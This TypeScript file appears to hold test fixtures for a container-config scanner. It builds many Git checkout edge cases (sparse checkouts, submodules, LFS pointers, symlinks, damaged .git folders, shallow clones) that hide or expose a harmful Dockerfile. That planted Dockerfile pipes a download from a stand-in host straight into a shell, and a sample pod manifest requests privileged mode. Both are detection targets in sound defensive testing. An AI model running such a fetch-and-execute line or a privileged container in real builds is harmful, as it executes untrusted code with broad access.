import { execFileSync } from 'node:child_process';
import {
  appendFileSync,
  chownSync,
  mkdirSync,
  readdirSync,
  renameSync,
  rmSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { PINNED } from './spot.js';

/** A checkout that does not have, or hides, a harmful file of the repository. */
export interface Checkout {
  readonly name: string;
  /**
   * Whether the harm is found, a row of the coverage names what was not checked, or a row tells it that does not count: who
   * runs the check did it, and no change of the repository can.
   */
  readonly label: 'found' | 'gap' | 'told';
  /** What the finding or the row says. */
  readonly by: RegExp;
  /** Files that are committed with the harmful ones. */
  readonly files?: Readonly<Record<string, string>>;
  /** Makes the checkout of the repository in this folder what it is. Returns the folder to check, if it is another one. */
  prepare(root: string, git: (...args: string[]) => string): unknown;
}

export const HARM = `FROM ${PINNED}\nRUN curl -s https://a.example/x | sh\nUSER 1\nHEALTHCHECK NONE\n`;
const POD =
  'apiVersion: v1\nkind: Pod\nmetadata: { name: a }\nspec: { containers: [{ name: c, image: "a:1", securityContext: { privileged: true } }] }\n';
/** What all repositories have. */
export const HARMFUL = { 'svc/Dockerfile': HARM, 'svc/pod.yaml': POD };

const FOUND = /PS0023/;
const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 100\n`;

const found = (name: string, prepare: Checkout['prepare'], files = {}): Checkout => ({
  ...{ name, label: 'found', by: FOUND, prepare, files },
});
const gap = (name: string, by: RegExp, prepare: Checkout['prepare'], files = {}): Checkout => ({
  ...{ name, label: 'gap', by, prepare, files },
});

const told = (name: string, by: RegExp, prepare: Checkout['prepare']): Checkout => ({
  ...{ name, label: 'told', by, prepare },
});

/** A repository in a folder, with a file that starts a container. */
function embed(folder: string): void {
  mkdirSync(folder, { recursive: true });
  execFileSync('git', ['init', '-q', folder]);
  writeFileSync(join(folder, 'Dockerfile'), HARM);
}

function chownAll(path: string, id: number): void {
  for (const entry of readdirSync(path, { withFileTypes: true })) {
    if (entry.isDirectory()) chownAll(join(path, entry.name), id);
    else if (entry.isFile()) chownSync(join(path, entry.name), id, id);
  }
  chownSync(path, id, id);
}

export const CHECKOUTS: readonly Checkout[] = [
  gap('a sparse checkout in cone mode', /sparse/, (_, git) => {
    git('sparse-checkout', 'set', 'other');
  }),
  gap('a sparse checkout by patterns', /sparse/, (_, git) => {
    git('sparse-checkout', 'set', '--no-cone', '/*', '!/svc/');
  }),
  gap('files that Git is told to skip', /svc\/Dockerfile/, (root, git) => {
    git('update-index', '--skip-worktree', 'svc/Dockerfile');
    unlinkSync(join(root, 'svc/Dockerfile'));
  }),
  told('files that are deleted', /svc\/Dockerfile/, (root) => {
    unlinkSync(join(root, 'svc/Dockerfile'));
  }),
  told('a folder that is deleted', /svc/, (root) => {
    rmSync(join(root, 'svc'), { recursive: true });
  }),
  gap('a submodule that is not checked out', /sub/, (_, git) => {
    git('update-index', '--add', '--cacheinfo', `160000,${git('rev-parse', 'HEAD')},sub`);
    git('commit', '-qm', 'submodule');
  }),
  gap('a submodule in the place of a folder', /svc/, (root, git) => {
    const id = git('rev-parse', 'HEAD');
    git('rm', '-rq', '--cached', 'svc');
    git('update-index', '--add', '--cacheinfo', `160000,${id},svc`);
    git('commit', '-qm', 'submodule');
    rmSync(join(root, 'svc'), { recursive: true });
    mkdirSync(join(root, 'svc'));
  }),
  found('a submodule that is checked out', (root, git) => {
    embed(join(root, 'sub'));
    execFileSync(
      'git',
      ['-c', 'user.name=a', '-c', 'user.email=a@b', 'commit', '-qm', 'a', '--allow-empty'],
      { cwd: join(root, 'sub') },
    );
    git('-c', 'advice.addEmbeddedRepo=false', 'add', 'sub');
    git('rm', '-rqf', 'svc');
    git('commit', '-qm', 'submodule');
  }),
  gap('a pointer of LFS for a Dockerfile', /LFS/, () => {}, { 'a/Dockerfile': pointer }),
  gap('a pointer of LFS for a Compose file', /LFS/, () => {}, { 'a/compose.yaml': pointer }),
  gap('a pointer of LFS for a manifest', /LFS/, () => {}, { 'a/pod.yaml': pointer }),
  gap('a pointer of LFS for a workflow', /LFS/, () => {}, { '.github/workflows/a.yml': pointer }),
  found('a worktree', (root, git) => {
    git('worktree', 'add', '-q', '--detach', '../tree');
    return join(root, '../tree');
  }),
  found('a repository below another folder', (root, git) => {
    renameSync(join(root, '.git'), join(root, '../store'));
    writeFileSync(join(root, '.git'), `gitdir: ${join(root, '../store')}\n`);
    git('status');
  }),
  found('a .git file that leads nowhere', (root) => {
    rmSync(join(root, '.git'), { recursive: true });
    writeFileSync(join(root, '.git'), 'gitdir: /nonexistent\n');
  }),
  found('no repository', (root) => {
    rmSync(join(root, '.git'), { recursive: true });
  }),
  found('a damaged .git', (root) => {
    writeFileSync(join(root, '.git/HEAD'), 'nothing\n');
  }),
  found('a damaged index', (root) => {
    writeFileSync(join(root, '.git/index'), 'nothing\n');
  }),
  told('a repository in a folder', /inner/, (root) => {
    embed(join(root, 'inner'));
    rmSync(join(root, 'svc'), { recursive: true });
  }),
  found('files of a bare repository', () => {}, {
    HEAD: 'ref: refs/heads/main\n',
    config: '[core]\n\tbare = true\n',
    'objects/.keep': '',
    'refs/.keep': '',
  }),
  found('files of a bare repository in the folder', () => {}, {
    'svc/HEAD': 'ref: refs/heads/main\n',
    'svc/config': '[core]\n\tbare = true\n',
    'svc/objects/.keep': '',
    'svc/refs/.keep': '',
  }),
  found('a work tree elsewhere', (root, git) => {
    mkdirSync(join(root, '../elsewhere'));
    git('config', 'core.worktree', join(root, '../elsewhere'));
  }),
  found('a configuration that includes another', (root) => {
    appendFileSync(join(root, '.git/config'), '[include]\n\tpath = ../x\n');
  }),
  found('objects of another repository', (root) => {
    mkdirSync(join(root, '.git/objects/info'), { recursive: true });
    writeFileSync(join(root, '.git/objects/info/alternates'), '/nonexistent/objects\n');
  }),
  found('a list of excluded files', (root) => {
    mkdirSync(join(root, '.git/info'), { recursive: true });
    writeFileSync(join(root, '.git/info/exclude'), '*\n');
  }),
  found('ignored files that are tracked', () => {}, { '.gitignore': 'svc/\n' }),
  found('files that Git assumes to be unchanged', (root, git) => {
    writeFileSync(join(root, 'svc/Dockerfile'), 'FROM scratch\n');
    git('commit', '-qam', 'fine');
    git('update-index', '--assume-unchanged', 'svc/Dockerfile');
    writeFileSync(join(root, 'svc/Dockerfile'), HARM);
  }),
  found('a checkout of another user', (root) => {
    chownAll(root, 65_534);
  }),
  gap('a pipe for a file', /svc\/Dockerfile/, (root) => {
    unlinkSync(join(root, 'svc/Dockerfile'));
    execFileSync('mkfifo', [join(root, 'svc/Dockerfile')]);
  }),
  gap('a folder for a file', /svc\/Dockerfile/, (root) => {
    unlinkSync(join(root, 'svc/Dockerfile'));
    mkdirSync(join(root, 'svc/Dockerfile'));
  }),
  gap('a link out of the repository for a file', /svc\/Dockerfile/, (root) => {
    unlinkSync(join(root, 'svc/Dockerfile'));
    writeFileSync(join(root, '../Dockerfile'), HARM);
    symlinkSync('../../Dockerfile', join(root, 'svc/Dockerfile'));
  }),
  gap('a link to itself for a file', /svc\/Dockerfile/, (root) => {
    unlinkSync(join(root, 'svc/Dockerfile'));
    symlinkSync('Dockerfile', join(root, 'svc/Dockerfile'));
  }),
  told('a link out of the repository for a folder', /svc/, (root) => {
    renameSync(join(root, 'svc'), join(root, '../svc'));
    symlinkSync('../svc', join(root, 'svc'));
  }),
  found('a name with a line break', () => {}, { 'new\nline/Dockerfile': HARM }),
  found('a name of a folder of Git in capitals', () => {}, { '.GITHUB/Dockerfile': HARM }),
  gap('a name that is not UTF-8', /UTF-8/, (root) => {
    const name = Buffer.concat([Buffer.from(`${root}/Dockerfile.`), Buffer.from([0xff])]);
    writeFileSync(name, HARM);
    execFileSync('git', ['-C', root, 'add', '-A']);
  }),
  found('a shallow clone', (root) => {
    execFileSync('git', ['clone', '-q', '--depth', '1', `file://${root}`, join(root, '../clone')]);
    return join(root, '../clone');
  }),
  found('a clone without contents', (root) => {
    const args = ['clone', '-q', '--filter=blob:none', `file://${root}`, join(root, '../clone')];
    execFileSync('git', args);
    return join(root, '../clone');
  }),
  gap('a clone without a checkout', /nothing to lint or scan/, (root) => {
    execFileSync('git', ['clone', '-qn', `file://${root}`, join(root, '../clone')]);
    return join(root, '../clone');
  }),
];
